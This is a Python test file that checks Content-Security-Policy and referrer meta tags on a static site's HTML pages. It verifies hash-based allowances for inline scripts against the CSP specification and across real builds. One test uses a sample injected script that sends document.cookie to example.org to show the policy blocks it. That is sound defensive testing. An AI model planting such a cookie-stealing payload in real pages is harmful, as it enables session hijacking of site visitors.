"""Every HTML file of the site carries a Content-Security-Policy and a referrer policy in <meta>
tags (macros/outputs/security_headers.py; GitHub Pages sends no headers we choose).

The hashing is tested on small pages here; on real builds (the adopted data, the real data and
a build with a forwarding page) every HTML file is checked: one policy, placed before any
script or stylesheet, allowing exactly the inline scripts the file has, found and hashed here
independently (BeautifulSoup, hashlib). That Chromium computes the same hashes, runs the
page's own scripts and blocks any other is shown in tests/browser/test_security_headers.py.
"""

from __future__ import annotations

import base64
import hashlib
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from macros.outputs.security_headers import (
    REFERRER_POLICY, WEBASSEMBLY, content_security_policy, inline_scripts, script_hash, with_security_meta,
)
from tests.builds import Built, built  # noqa: F401 - the fixture

# The example of the CSP specification (w3.org/TR/CSP3, "hash-source"): this script text
# is allowed by this source.
SPEC_SCRIPT = "alert('Hello, world.');"
SPEC_HASH = "'sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng='"

PAGE = """<!doctype html>
<html lang="nl">
<head>
<meta charset="utf-8">
<title>Proef</title>
<link rel="stylesheet" href="style.css">
<script>__md_scope=new URL("..",location)</script>
<script id="__config" type="application/json">{"base": ".."}</script>
<script src="bundle.js"></script>
</head>
<body>
<p>Tekst met &lt;script&gt; erin.</p>
<script type="module">import("./x.js")</script>
<script type='text/javascript'>var a = "</scrip" + "t>";</script>
<script type="text/plain">geen script</script>
</body>
</html>
"""
RUN = ['__md_scope=new URL("..",location)', 'import("./x.js")', 'var a = "</scrip" + "t>";']


def directives(policy: str) -> dict[str, list[str]]:
    parsed = {}
    for directive in policy.split(";"):
        name, *sources = directive.split()
        assert name not in parsed, f"{name} twice in {policy!r}"
        parsed[name] = sources
    return parsed


def sha256_source(text: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode("utf-8")).digest()).decode() + "'"


# ---------------------------------------------------------------- the function, on small pages


def test_the_hash_is_the_one_of_the_csp_specification():
    assert script_hash(SPEC_SCRIPT) == SPEC_HASH


def test_line_breaks_are_hashed_as_the_browser_reads_them():
    # The HTML parser turns CR LF and a lone CR into LF before the script has a text.
    assert script_hash("a();\r\nb();\rc();") == script_hash("a();\nb();\nc();")
    assert script_hash("a();\nb();") != script_hash("a();b();")


def _unsafe(source: str) -> bool:
    """'unsafe-inline', 'unsafe-eval', 'unsafe-hashes': not 'wasm-unsafe-eval', which lets the
    search compile WebAssembly and nothing else (no eval(), no inline script)."""
    return "unsafe" in source and source != WEBASSEMBLY


def test_only_the_inline_scripts_a_browser_runs_are_found():
    # Not the one with src (allowed by 'self'), not the JSON and text/plain data blocks.
    assert inline_scripts(PAGE) == RUN


def test_the_policy_allows_exactly_the_page_s_inline_scripts():
    policy = directives(content_security_policy(PAGE))
    assert policy["script-src"] == ["'self'", WEBASSEMBLY, *(script_hash(text) for text in RUN)]
    assert not any(_unsafe(source) for sources in policy.values() for source in sources)
    assert policy["default-src"] == ["'self'"] and policy["object-src"] == ["'none'"]
    assert policy["base-uri"] == ["'self'"] and policy["form-action"] == ["'self'"]


def test_a_script_injected_into_the_page_is_not_allowed():
    injected = "fetch('https://example.org/?' + document.cookie)"
    policy = directives(content_security_policy(with_security_meta(PAGE)))
    assert script_hash(injected) not in policy["script-src"]
    # Also when it is added after the policy was made: the page's policy stays as it was.
    page = with_security_meta(PAGE).replace("</body>", f"<script>{injected}</script></body>")
    meta = BeautifulSoup(page, "html.parser").find("meta", attrs={"http-equiv": "Content-Security-Policy"})
    assert script_hash(injected) not in directives(meta["content"])["script-src"]


def test_the_policy_comes_right_after_the_charset_before_anything_it_governs():
    page = with_security_meta(PAGE)
    head = BeautifulSoup(page, "html.parser").head
    tags = [tag for tag in head.find_all(True)]
    assert tags[0].name == "meta" and tags[0].get("charset") == "utf-8"
    assert tags[1].get("http-equiv") == "Content-Security-Policy"
    assert tags[2].get("name") == "referrer" and tags[2]["content"] == REFERRER_POLICY
    with pytest.raises(ValueError):
        with_security_meta(page)  # one policy per page


def test_the_page_is_unchanged_apart_from_the_two_tags():
    page = with_security_meta(PAGE)
    start = page.index('<meta http-equiv="Content-Security-Policy"')
    end = page.index(">", page.index('<meta name="referrer"')) + 1
    assert page[:start] + page[end:] == PAGE


# ---------------------------------------------------------------- every HTML file of real builds


def check_site(site_dir: Path) -> list[str]:
    problems = []
    files = sorted(site_dir.rglob("*.html"))
    assert site_dir / "404.html" in files and site_dir / "index.html" in files
    for file in files:
        name = file.relative_to(site_dir).as_posix()
        soup = BeautifulSoup(file.read_text(encoding="utf-8"), "html.parser")
        policies = soup.find_all("meta", attrs={"http-equiv": "Content-Security-Policy"})
        referrers = soup.find_all("meta", attrs={"name": "referrer"})
        if len(policies) != 1 or len(referrers) != 1:
            problems.append(f"{name}: {len(policies)} Content-Security-Policy and {len(referrers)} referrer tags")
            continue
        if referrers[0]["content"] != REFERRER_POLICY:
            problems.append(f"{name}: referrer policy {referrers[0]['content']!r}")
        earlier = policies[0].find_all_previous(["script", "link", "style", "base"])
        if earlier or policies[0].parent.name != "head":
            problems.append(f"{name}: the policy is not in <head> before every script and stylesheet")
        policy = directives(policies[0]["content"])
        scripts = {sha256_source(script.string or "") for script in soup.find_all("script")
                   if not script.get("src") and script.get("type", "text/javascript") in ("text/javascript", "module")}
        allowed = set(policy["script-src"]) - {"'self'", WEBASSEMBLY}
        if allowed != scripts:
            problems.append(f"{name}: script-src allows {sorted(allowed)}, the inline scripts are {sorted(scripts)}")
        if any(_unsafe(source) for sources in policy.values() for source in sources):
            problems.append(f"{name}: the policy allows something unsafe: {policies[0]['content']}")
    return problems


def test_every_page_has_the_policy_for_its_own_inline_scripts(built: Built):
    problems = check_site(built.site_dir)
    assert not problems, "\n".join(problems)


def test_a_forwarding_page_has_the_policy_for_its_script(renamed_site):
    from tests.test_redirects import OLD

    stub = renamed_site / "opgaven" / OLD / "index.html"
    assert inline_scripts(stub.read_text(encoding="utf-8")), "the forwarding page has no script to allow"
    problems = check_site(renamed_site)
    assert not problems, "\n".join(problems)
